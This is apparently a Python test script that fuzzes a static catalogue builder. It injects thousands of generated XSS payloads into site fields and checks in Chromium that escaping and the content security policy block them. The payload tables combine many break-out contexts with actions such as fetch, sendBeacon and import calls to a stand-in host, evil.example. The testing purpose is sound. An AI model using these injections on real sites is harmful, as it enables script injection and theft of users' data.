"""`python -m faults.scripts [COUNT]`: thousands of script injections in every text field, opened in Chromium.

The texts are made here, every break-out of every context with every deed, and taken from
`tests/data`. Each page of the built site is opened twice: as published, where the policy may have
nothing to report, and without its policy, where the escaping alone has to hold.
"""

from __future__ import annotations

import itertools
import json
import random
import shutil
import subprocess
import sys
import tempfile
from collections import Counter
from collections.abc import Iterable
from pathlib import Path

from playwright.sync_api import Browser, Page, Route, sync_playwright

from tests.support.payloads import hostile_project, injections, naughty_strings
from tests.support.project import write_picture
from tests.support.web import served

COUNT = 6000
DEEDS = (
    "alert(1)", "confirm`1`", "location='https://evil.example/'", "fetch('//evil.example')", "import('//evil.example/x.js')",
    "document.title='x'", "open('//evil.example')", "eval(atob('YWxlcnQoMSk='))", "top[/al/.source+/ert/.source](1)",
    "new Image().src='//evil.example'", "navigator.sendBeacon('//evil.example')", "document.body.innerHTML='x'",
)  # fmt: skip
CONTEXTS = (
    # text
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script/x>{}</script>", "<<script>{}//<</script>",
    "<img src=x onerror={}>", "<img/src=x/onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>",
    "<details open ontoggle={}>", "<iframe srcdoc='<script>{}</script>'>", "<iframe src=javascript:{}>",
    "<object data=javascript:{}>", "<embed src=javascript:{}>", "<body onload={}>", "<math href=javascript:{}>x</math>",
    "<form action=javascript:{}><button>x</button></form>", "<input autofocus onfocus={}>", "<video><source onerror={}></video>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<base href=javascript:{}//>", "<link rel=stylesheet href=javascript:{}>",
    "<style>@import 'javascript:{}'</style>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<xmp><p title='</xmp><img src=x onerror={}>'>", "<!--><img src=x onerror={}>-->", "<![CDATA[<img src=x onerror={}>]]>",
    "<template><script>{}</script></template>", "<a href=javascript:{}>x</a>", "<a href='java\tscript:{}'>x</a>",
    # attributes
    '" onmouseover="{}', "' onmouseover='{}", '"><script>{}</script>', "'><script>{}</script>", '" autofocus onfocus="{}',
    "` onmouseover=`{}", "x onmouseover={} y", '" style="background:url(javascript:{})', "--><script>{}</script>",
    # addresses
    "javascript:{}", "JaVaScRiPt:{}", "java&#10;script:{}", "&#106;avascript:{}", "data:text/html,<script>{}</script>",
    "vbscript:{}", " javascript:{}", "javascript&colon;{}", 'https://evil.example/"><script>{}</script>',
    # Markdown
    "[x](javascript:{})", "[x](<javascript:{}>)", "![x](javascript:{})", "<javascript:{}>", "[x]: javascript:{}\n[x]",
    '[x](https://a.example ""onmouseover={} ")', "`<script>{}</script>`", "&lt;script&gt;{}&lt;/script&gt;",
    # scripts, JSON-LD, templates
    "</script><script>{}</script>", "</title><script>{}</script>", "</textarea><script>{}</script>", "</style><script>{}</script>",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", '";{};//', "';{};//", '\\";{};//', "${{{}}}", "{{{{ {} }}}}", "{{% if {} %}}",
    "#{{{}}}", "]]>{}<![CDATA[", "\u2028{}\u2029", "*/{}/*",
)  # fmt: skip


def made(count: int, seed: int = 7) -> list[str]:
    """Return so many injections: each deed in each context first, then variations of them."""
    source = random.Random(seed)  # noqa: S311 (to be repeated)
    plain = [context.format(deed) for context, deed in itertools.product(CONTEXTS, DEEDS)]
    found = dict.fromkeys(plain)
    while len(found) < count:
        found.setdefault(_varied(source.choice(plain), source))
    return list(found)[:count]


def _varied(text: str, source: random.Random) -> str:
    """Write a text another way that browsers may read the same."""
    ways = (
        lambda: "".join(source.choice((char.upper(), char.lower())) for char in text),
        lambda: text.replace(" ", source.choice(("/", "  ", " / ")), source.randint(1, 2)),
        lambda: text.replace("=", source.choice((" = ", '="" x=', "= ")), 1),
        lambda: source.choice(("x", '">', "'>", "</p>", "*", "**", "- ")) + text,
        lambda: text + source.choice(("x", "<!--", '">', "</b>", "`")),
        lambda: text.replace("<", source.choice(("&lt;", "<x/><", "<\u200b")), 1),
        lambda: text.replace("(", "&#40;").replace(")", "&#x29;"),
        lambda: source.choice(CONTEXTS).format(text),
    )  # fmt: skip
    return source.choice(ways)()


def collected(count: int) -> list[str]:
    """Return so many texts: those of `tests/data`, and for the rest our own."""
    known = [*injections(), *naughty_strings()]
    return list(dict.fromkeys([*known, *made(count)]))[:count]


def write_project(folder: Path, texts: list[str]) -> Path:
    """Write a catalogue with each text in every text field of a product, partner, programme and page."""
    for name, text in hostile_project(texts).items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        if path.name == "index.md":
            write_picture(path.with_name("foto.png"))
    return folder


def opened(browser: Browser, address: str, pages: Iterable[str]) -> Counter[str]:
    """Open pages as published and without their policy; count what no text may bring about."""
    seen: Counter[str] = Counter(pages=0)
    for policy in (True, False):
        context = browser.new_context()
        context.add_init_script(_REPORT)
        page = context.new_page()
        _watch(page, seen)
        if not policy:
            page.route("**/*.html", _without_policy)
        for each in pages:
            page.goto(address + each)
            seen["pages"] += 1
            seen["navigations"] += page.url != address + each
            seen["policy reports"] += page.evaluate("window.violations?.length ?? 0") if policy else 0
        context.close()
    return seen


_REPORT = """window.violations = [];
document.addEventListener('securitypolicyviolation', (event) => window.violations.push(event.violatedDirective));"""


def _watch(page: Page, seen: Counter[str]) -> None:
    def dialog(shown: object) -> None:
        seen["dialogs"] += 1
        shown.dismiss()  # type: ignore[attr-defined]

    page.on("dialog", dialog)
    page.on("popup", lambda _: seen.update(["popups"]))
    page.on("pageerror", lambda _: seen.update(["errors"]))
    page.on("console", lambda said: seen.update(["console errors"] if said.type == "error" else []))
    page.on("request", lambda asked: seen.update([] if _is_own(asked.url) else ["requests abroad"]))


def _is_own(url: str) -> bool:
    return url.startswith(("http://127.0.0.1:", "data:"))


def _without_policy(route: Route) -> None:
    answer = route.fetch()
    body = answer.text().replace('http-equiv="Content-Security-Policy"', "data-policy")
    route.fulfill(response=answer, body=body)


def pages_of(site: Path) -> list[str]:
    """Return every page of a site."""
    return sorted(path.relative_to(site).as_posix() for path in site.rglob("*.html"))


def main(arguments: list[str]) -> int:
    """Build, open and count; return 1 when anything but pages was counted."""
    count = int(arguments[0]) if arguments else COUNT
    with tempfile.TemporaryDirectory(prefix="catalog-scripts-") as name, sync_playwright() as driver:
        project = write_project(Path(name), collected(count))
        command = [sys.executable, "-m", "catalog_builder", "-C", str(project), "-q", "build"]
        subprocess.run(command, check=True, capture_output=True)
        program = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))))
        browser = driver.chromium.launch(executable_path=program, args=["--no-sandbox"])
        with served(project / "output") as address:
            seen = opened(browser, address, pages_of(project / "output"))
        browser.close()
    print(json.dumps({"texts": count, **seen}))
    return 1 if sum(seen.values()) > seen["pages"] else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
